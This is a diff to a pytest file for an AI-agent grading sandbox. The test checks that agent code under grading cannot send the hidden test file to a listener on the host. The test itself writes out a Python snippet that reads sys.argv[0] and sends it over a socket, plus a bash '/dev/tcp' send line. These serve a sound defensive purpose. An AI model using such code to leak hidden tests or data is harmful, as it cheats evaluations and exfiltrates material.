@@ -79,54 +79,28 @@ def test_agent_written_test_files_do_not_replace_the_hidden_test(square_suite, w
 
 
 @pytest.mark.skipif(not bwrap_path(), reason="needs bubblewrap")
-def test_agent_code_under_grading_and_builtin_commands_reach_no_host_listener(square_suite, work):
+def test_agent_code_under_grading_and_builtin_commands_reach_no_host_listener(square_suite, work, listener):
     """While its hidden test runs, agent code has the test in reach (sys.argv[0]); a listener on the host's
     loopback (say the next attempt's session) must receive nothing. The builtin agent's commands likewise."""
-    import socket
-    import threading
     import time
 
     from sandbox.agents.tools import ToolBox
     from sandbox.limits import AGENT_LIMITS
 
-    srv = socket.socket()
-    srv.bind(("127.0.0.1", 0))
-    srv.listen(4)
-    srv.settimeout(0.2)
-    port = srv.getsockname()[1]
-    got: list[bytes] = []
-    stop = threading.Event()
-
-    def accept():
-        while not stop.is_set():
-            try:
-                conn, _ = srv.accept()
-            except OSError:
-                continue
-            got.append(conn.recv(4096))
-            conn.close()
-
-    t = threading.Thread(target=accept, daemon=True)
-    t.start()
-    try:
-        wd = fresh(work / "exfil")
-        (wd / "sq.py").write_text(
-            "import socket, sys\n"
-            "try:\n"
-            f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
-            "    s.sendall(open(sys.argv[0], 'rb').read()[:200])\n"
-            "except OSError:\n"
-            "    pass\n"
-            "def square(x):\n    return x * x\n")
-        g = grade(load_suite(square_suite).get("square"), wd, cfg=IsolationConfig(mode="bwrap"))
-        assert g.outcome == "pass"  # it still solved the task; it just could not send anything
-        box = ToolBox(workdir=fresh(work / "tools"), cfg=IsolationConfig(mode="bwrap"), limits=AGENT_LIMITS,
-                      deadline=time.monotonic() + 60)
-        out = box._bash(f"echo -n hello >/dev/tcp/127.0.0.1/{port}; echo rc=$?")
-        assert "rc=1" in out
-        time.sleep(0.5)
-    finally:
-        stop.set()
-        t.join(2)
-        srv.close()
-    assert got == []
+    wd = fresh(work / "exfil")
+    (wd / "sq.py").write_text(
+        "import socket, sys\n"
+        "try:\n"
+        f"    s = socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)\n"
+        "    s.sendall(open(sys.argv[0], 'rb').read()[:200])\n"
+        "except OSError:\n"
+        "    pass\n"
+        "def square(x):\n    return x * x\n")
+    g = grade(load_suite(square_suite).get("square"), wd, cfg=IsolationConfig(mode="bwrap"))
+    assert g.outcome == "pass"  # it still solved the task; it just could not send anything
+    box = ToolBox(workdir=fresh(work / "tools"), cfg=IsolationConfig(mode="bwrap"), limits=AGENT_LIMITS,
+                  deadline=time.monotonic() + 60)
+    out = box._bash(f"echo -n hello >/dev/tcp/127.0.0.1/{listener.port}; echo rc=$?")
+    assert "rc=1" in out
+    time.sleep(0.5)
+    assert listener.heard == []
